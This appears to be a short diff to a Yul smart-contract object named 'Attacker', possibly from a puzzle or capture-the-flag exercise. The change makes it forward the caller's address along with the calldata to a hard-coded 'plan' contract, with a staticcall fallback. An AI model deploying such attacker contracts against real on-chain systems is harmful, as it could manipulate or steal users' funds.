@@ -14,8 +14,9 @@ object "Attacker" {
         code {
             let plan := 0xa77acce2000000000000000000000000000000ff
             mstore(0, shl(224, shr(224, calldataload(0))))
-            // Five bytes: next note. In a static call the plan cannot count, and is asked for the answer alone.
-            if iszero(call(400000, plan, 0, 0, 5, 0, 0)) {
+            // More than four bytes: next note, and who called. In a static call the plan cannot count, and is asked for the answer alone.
+            mstore(5, caller())
+            if iszero(call(400000, plan, 0, 0, 37, 0, 0)) {
                 pop(staticcall(400000, plan, 0, 4, 0, 0))
             }
             let note := 0x80
